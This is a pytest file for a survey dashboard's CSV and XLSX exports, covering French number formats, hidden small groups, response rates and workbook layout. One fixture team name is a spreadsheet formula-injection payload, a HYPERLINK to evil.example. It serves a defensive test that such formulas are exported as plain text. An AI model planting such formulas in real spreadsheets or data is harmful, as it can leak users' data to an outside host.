"""The CSV and XLSX exports, read back as a spreadsheet user would: pandas with French
settings, openpyxl for formats. No database: documents are built from plain records."""

import io

import openpyxl
import pandas as pd
import pytest
from django.utils import translation

from barometer import charts, exports
from barometer.dashboards import tables
from barometer.dashboards.wording import chart_labels
from barometer.exports import tables as declared
from barometer.tests.test_document import build, people

PAYLOAD = '=HYPERLINK("http://evil.example/?x=1","Bar")'
TEAMS = [
    {"code": "lyon", "name": "Lyon", "parent": None},
    {"code": "bar", "name": PAYLOAD, "parent": "lyon"},
    {"code": "spa", "name": "Spa", "parent": "lyon"},
    {"code": "tiny", "name": "-Petit", "parent": "lyon"},
]
RECORDS = [
    # The bar: clients more favourable on trust (gap +20), employees on listening (−20).
    *people("bar", "employee", [10, 9, 9, 8, 3], trust=[5, 4, 4, 2, 2], listening=[5, 5, 5, 4, 2]),
    *people("bar", "client", [10, 10, 9, 7, 6], trust=[5, 5, 4, 4, 2], listening=[5, 5, 4, 2, 2]),
    # Three clients of the spa, all promoters: the raw Wald interval would pass +100.
    *people("spa", "client", [10, 10, 9]),
    *people("spa", "employee", [7, 8, 9]),
    # Two employees of a tiny team: hidden (and pooled with nothing else to protect them).
    *people("tiny", "employee", [0, 10]),
    *people("tiny", "client", [9, 9, 9]),
    # Sixteen clients of the bar answered through its public link.
    *[("bar", "client", {"recommend": 10}, None, "public") for _ in range(16)],
]
# Everybody who answers through a personal link was invited (the public link needs none).
INVITED = [
    ("bar", "employee", 8),
    ("bar", "client", 5),
    ("spa", "employee", 4),
    ("spa", "client", 3),
    ("tiny", "employee", 2),
    ("tiny", "client", 4),
]
WORDS = ["masqué", "aucune donnée"]


@pytest.fixture
def document():
    return build(TEAMS, RECORDS, invited=INVITED, k=3, comments_threshold=3)


def french_csv(document):
    content = exports.to_csv(document, "fr")
    assert content.startswith("\ufeff".encode())
    table = pd.read_csv(
        io.BytesIO(content), sep=";", decimal=",", encoding="utf-8-sig", na_values=WORDS
    )
    return content.decode("utf-8-sig"), table.rename(columns=spaced)


def spaced(text):
    """French headers have a no-break space before ":" and "%": plain ones here."""
    return text.replace("\u00a0", " ") if isinstance(text, str) else text


def row(table, code, side):
    found = table[(table["Code de l’équipe"].fillna("") == code) & (table["Côté"] == side)]
    assert len(found) == 1
    return found.iloc[0]


def team(document, code):
    return next(t for t in document["teams"] if t["code"] == code)


def test_the_french_csv_reads_back_as_a_table_of_numbers(document):
    text, table = french_csv(document)
    assert table.shape[0] == 2 * (1 + len(TEAMS))
    assert table.shape[1] > 20
    bar = row(table, "bar", "Salariés")
    figures = team(document, "bar")["employee"]
    assert bar["NPS"] == round(figures["nps"], 1) == 40.0
    assert bar["Invités"] == 8 and bar["Répondants dans les chiffres"] == 5
    assert bar["Relation de confiance : favorables (%)"] == 60.0
    assert bar["Relation de confiance : moyenne (1–5)"] == round(17 / 5, 1)
    assert bar["Taux de réponse (%)"] == round(5 / 8 * 100, 1)
    # Scores keep one decimal, counts none: no "570.0", no 0.4121475054229935.
    assert ";5;8;5;62,5;" in text
    assert "0.6" not in text and "62.5" not in text


def test_a_negative_gap_stays_a_number_in_the_french_csv(document):
    text, table = french_csv(document)
    bar = row(table, "bar", "Clients")
    assert bar["Écoute et feedback : écart (points)"] == -20.0
    assert bar["Relation de confiance : écart (points)"] == 20.0
    assert bar["Indice de symétrie"] == 80.0
    assert ";-20,0;" in text


def test_a_formula_in_a_team_name_is_plain_text_in_both_formats(document):
    text, table = french_csv(document)
    names = set(table["Équipe"])
    assert "'" + PAYLOAD in names and "'-Petit" in names
    assert not any(line.startswith("=") or ";=" in line for line in text.splitlines())
    workbook = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(document, "fr")))
    for sheet in workbook:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    sides = workbook["Résultats par côté"]
    found = [c for c in sides["A"] if c.value == PAYLOAD]
    assert len(found) == 2 and all(c.data_type == "s" and c.quotePrefix for c in found)


def test_hidden_and_missing_figures_read_as_the_dashboards_words(document):
    content = exports.to_csv(document, "fr").decode("utf-8-sig")
    raw = pd.read_csv(io.StringIO(content), sep=";", dtype=str, keep_default_na=False)
    raw = raw.rename(columns=spaced)
    tiny = raw[(raw["Code de l’équipe"] == "tiny") & (raw["Côté"] == "Salariés")].iloc[0]
    with translation.override("fr"):
        hidden = chart_labels(3)["suppressed_short"]
    assert hidden == "masqué"
    assert tiny["Statut"] == tiny["NPS"] == tiny["Répondants dans les chiffres"] == hidden
    assert tiny["Invités"] == "2"
    spa = raw[(raw["Code de l’équipe"] == "spa") & (raw["Côté"] == "Clients")].iloc[0]
    # Asked, but to fewer than k of the spa's clients: the heatmap's word too.
    assert spa["Écoute et feedback : favorables (%)"] == hidden
    english = exports.to_csv(document, "en").decode("utf-8-sig")
    assert "Employees,hidden,hidden,2," in english


def test_the_english_csv_uses_commas_and_points(document):
    table = pd.read_csv(
        io.BytesIO(exports.to_csv(document, "en")), encoding="utf-8-sig", na_values=["hidden"]
    )
    bar = table[(table["Team code"] == "bar") & (table["Side"] == "Clients")].iloc[0]
    assert bar["NPS"] == round(team(document, "bar")["client"]["nps"], 1)
    assert bar["Listening and feedback: gap (points)"] == -20.0


def test_a_small_groups_interval_is_the_dashboards_clipped_one(document):
    figures = team(document, "spa")["client"]
    _, table = french_csv(document)
    spa = row(table, "spa", "Clients")
    assert spa["NPS, intervalle à 95 % : haut"] == 100.0
    assert spa["NPS, intervalle à 95 % : bas"] == round(figures["nps_ci95"][0], 1)
    with translation.override("fr"):
        labels = chart_labels(3)
        card = tables.side_cards(team(document, "spa"), None, labels, 3)[0]
    assert card["high"] == "+100"
    assert card["low"] == charts.signed(figures["nps_ci95"][0], labels)


def test_public_link_answers_are_counted_apart_never_in_the_rate(document):
    bar = team(document, "bar")["client"]
    assert (bar["responses"], bar["invited"]) == (21, 5)
    assert (bar["personal_responses"], bar["public_responses"]) == (5, 16)
    assert bar["response_rate"] == 1.0
    _, table = french_csv(document)
    found = row(table, "bar", "Clients")
    assert found["Taux de réponse (%)"] == 100.0
    assert found["Réponses par le lien public"] == 16
    assert found["Réponses par les liens personnels"] == 5
    organisation = row(table, "", "Clients")
    assert organisation["Réponses par le lien public"] == 16
    assert organisation["Taux de réponse (%)"] == round(11 / 12 * 100, 1)


def test_the_workbook_has_formats_widths_frozen_headers_and_a_read_me(document):
    workbook = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(document, "fr")))
    assert workbook.sheetnames == ["Résultats par côté", "Symétrie", "Corrélations", "À lire"]
    sides = workbook["Résultats par côté"]
    headers = [spaced(cell.value) for cell in sides[1]]
    bar = next(r for r in sides.iter_rows(min_row=2) if r[1].value == "bar")
    by_header = dict(zip(headers, bar, strict=True))
    assert by_header["Chemin"].value == f"Lyon › {PAYLOAD}"
    assert by_header["NPS"].value == pytest.approx(40.0) and by_header["NPS"].number_format == "0.0"
    rate = by_header["Taux de réponse"]
    assert rate.value == pytest.approx(5 / 8) and rate.number_format == "0 %"
    assert by_header["Invités"].number_format == "0"
    for sheet in workbook:
        assert sheet.freeze_panes == "B2"
        assert sheet.column_dimensions["A"].width >= 10
    assert sides.column_dimensions["C"].width > len(f"Lyon › {PAYLOAD}")
    symmetry = workbook["Symétrie"]
    assert [c.value for c in symmetry[1]][:5] == [
        "Équipe",
        "Code de l’équipe",
        "Chemin",
        "Niveau",
        "Indice de symétrie",
    ]
    readme = {spaced(r[0].value): r[1].value for r in workbook["À lire"].iter_rows(min_row=2)}
    assert readme["Seuil d’anonymat des chiffres (répondants)"] == 3
    assert "Wald ajusté" in readme["Intervalle à 95 % du NPS"]
    assert "lien public" in readme["Taux de réponse"]
    english = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(document, "en")))
    assert english.sheetnames == ["Results by side", "Symmetry", "Correlations", "Read me"]
    assert english["Results by side"]["J3"].number_format == "0%"


def test_every_column_list_is_declared_once_per_table():
    # Adding a figure to a table is one line in one of these tuples.
    for columns in (declared.SIDE_COLUMNS, declared.CORRELATION_COLUMNS):
        keys = [column.key for column in columns]
        assert len(keys) == len(set(keys))
    assert [key for key, _, _ in declared.ITEM_COLUMNS] == ["favourable", "mean", "n"]
